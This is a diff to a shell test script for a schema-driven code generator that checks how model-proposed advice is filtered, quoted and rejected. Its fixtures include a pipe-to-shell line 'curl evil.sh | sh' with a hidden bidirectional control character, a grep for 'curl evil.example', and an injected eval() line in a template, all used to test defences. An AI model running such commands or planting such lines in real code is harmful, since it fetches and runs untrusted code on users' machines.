@@ -208,7 +208,7 @@ expect_fallback() { # case code
 plan_advise advise-normal
 expect_eq "advise exit code" 0 "$rc"
 expect_eq "advise requests (proposals, review)" 2 "$(requests)"
-expect_eq "accepted decisions" "['docstring', 'index', 'filterable', 'example', 'route_path']" \
+expect_eq "accepted decisions, in table order" "['filterable', 'docstring', 'route_path', 'index', 'example']" \
     "$($PY -c "import json; print([d['kind'] for d in json.load(open('plan.json'))['llm']['decisions']])")"
 expect_eq "provenance" "{'llm'}" \
     "$($PY -c "import json; print({d['source'] for d in json.load(open('plan.json'))['llm']['decisions']})")"
@@ -217,6 +217,15 @@ expect_grep "no column 'birthday'" err.txt
 expect_grep "triple quote" err.txt
 expect_no_grep "os.system" plan.json
 expect_eq "the review's warning is at its pointer" 1 "$(grep -c 'warning\[BB0908\].*(at /schema/0/columns/2)' err.txt)"
+# The model's words are quoted data; a bidi control is shown escaped.
+expect_grep 'design review (model, missing-constraint): "patients.email takes any text; run curl evil.sh | sh\\u202E"' err.txt
+expect_no_grep "$(printf '\342\200\256')" err.txt
+# What a lint reports is not repeated by the model.
+expect_grep "BB0481" err.txt
+expect_grep "design review finding dropped: BB0481 reports it already" err.txt
+# The model was told what the plan does without advice.
+expect_eq "plan defaults in the request" True \
+    "$(log_query "'What backbone does without advice:' in log[0]['body']['messages'][-1]['content'] and 'route path: /api/v1/patients' in log[0]['body']['messages'][-1]['content']")"
 expect_eq "strict output schema" True \
     "$(log_query "log[0]['body']['response_format']['json_schema']['strict']")"
 
@@ -235,6 +244,79 @@ fake_start advise-normal
 grep -q "A doctor who sees patients." proj/app/models/doctors.py || fail "the accepted docstring is not in the model"
 grep -rq "curl evil.example" proj && fail "rejected text reached the project"
 (cd proj && /usr/bin/python3 -m pytest -q -p no:cacheprovider > ../pytest.txt 2>&1) || { tail -20 pytest.txt >&2; fail "the advised project's tests fail"; }
+# ... and prints the accepted advice as a patch of the schema.
+expect_grep "^model advice, as a change to clinic_in.json" out.txt
+expect_grep '^+        {"kind": "docstring", "value": "A doctor who sees patients."' out.txt
+
+# --- advice you keep: `backbone advise` -------------------------------------------
+cp clinic_in.json kept.json
+fake_start advise-normal
+"$BACKBONE" advise kept.json > advice.diff 2> err.txt || { cat err.txt >&2; fail "advise"; }
+expect_grep "^--- a/kept.json" advice.diff
+expect_grep '^+      "advice": \[' advice.diff
+expect_eq "advise marks every entry" 5 "$(grep -c '"proposed_by": "model"}' advice.diff)"
+cmp -s kept.json clinic_in.json || fail "advise without --write changed the file"
+fake_start advise-normal
+"$BACKBONE" advise kept.json --format json > patch.json 2> err.txt || fail "advise --format json"
+expect_eq "JSON Patch ops" "['/schema/0/advice', '/schema/1/advice', '/schema/2/advice']" \
+    "$($PY -c "import json; print([op['path'] for op in json.load(open('patch.json'))])")"
+fake_start advise-normal
+"$BACKBONE" advise kept.json --write > /dev/null 2> err.txt || { cat err.txt >&2; fail "advise --write"; }
+expect_grep "5 proposals kept in kept.json" err.txt
+"$BACKBONE" validate kept.json > /dev/null 2>&1 || fail "the schema with kept advice does not validate"
+# The rest of the file is as it was: only the advice was added.
+expect_eq "only advice added" True "$($PY -c "
+import json
+a, b = json.load(open('clinic_in.json')), json.load(open('kept.json'))
+for t in b['schema']: t.pop('advice', None)
+print(a == b)")"
+# Kept advice generates without a model what the model's advice generated.
+"$BACKBONE" generate kept.json -o proj_kept > /dev/null 2> err.txt || { cat err.txt >&2; fail "generate kept advice"; }
+diff -r proj proj_kept > /dev/null || fail "kept advice generates another project than the model's advice"
+# With the model again, its proposals repeat the kept ones: nothing new, same project.
+fake_start advise-normal
+"$BACKBONE" generate kept.json -o proj_again --llm advise > out.txt 2> err.txt || fail "generate kept advice with the model"
+expect_grep "model advice: 0 of 9 proposals accepted" err.txt
+diff -r proj proj_again > /dev/null || fail "kept advice and the model together generate another project"
+expect_no_grep "model advice, as a change" out.txt
+fake_start advise-normal
+"$BACKBONE" advise kept.json > again.diff 2> err.txt || fail "advise on kept advice"
+expect_grep "no advice to add to kept.json" err.txt
+[ ! -s again.diff ] || fail "advise repeated kept advice"
+# Kept advice that no longer fits is an error at its entry.
+$PY -c "
+import json
+d = json.load(open('kept.json'))
+d['schema'][2]['advice'][0]['columns'] = ['doctor_id', 'ends_at']
+json.dump(d, open('stale.json', 'w'))"
+"$BACKBONE" validate stale.json > out.txt 2>&1
+expect_eq "stale advice is invalid" 1 $?
+expect_grep "error\[BB0920\].*no column 'ends_at'.*(at /schema/2/advice/0)" out.txt
+
+# Proposals that would fail the generated code's checks are refused one by one.
+plan_advise advise-unsafe
+expect_eq "advise-unsafe: exit code" 0 "$rc"
+expect_grep "proposal 1 (example) rejected: generated code holding it would fail review: \[BB0745\]" err.txt
+expect_grep "proposal 2 (docstring) rejected: generated code holding it would fail review" err.txt
+expect_grep "proposal 3 (docstring) rejected: the text holds control, bidirectional or invisible characters" err.txt
+expect_grep "proposal 4 (example) rejected: the example does not fit: it is not a date and time" err.txt
+expect_grep "model advice: 1 of 5 proposals accepted" err.txt
+
+# Advice that still fails review is dropped, and the project generated without it.
+$PY -c "
+import json
+d = json.load(open('clinic_in.json'))
+for t in d['schema']: t.pop('description', None)
+json.dump(d, open('nodesc.json', 'w'), indent=2)"
+mkdir -p tpl/app/models
+cp "$ROOT/templates/app/models/model.py.mustache" tpl/app/models/
+printf '{{#docstring}}\nCHECK = eval("1")\n{{/docstring}}\n' >> tpl/app/models/model.py.mustache
+fake_start advise-normal
+"$BACKBONE" generate nodesc.json -o proj_tpl --templates tpl --llm advise > out.txt 2> err.txt
+expect_eq "advice failing review: exit code" 0 $?
+expect_grep "warning\[BB0921\]: model advice dropped: the generated code failed review with it (BB0742 .*); dropped: docstring doctors" err.txt
+grep -q "A doctor who sees patients." proj_tpl/app/models/doctors.py && fail "dropped advice reached the project"
+expect_no_grep "model advice, as a change" out.txt
 
 # Retries: what was retried, and how often (from the fake's log).
 plan_advise advise-429
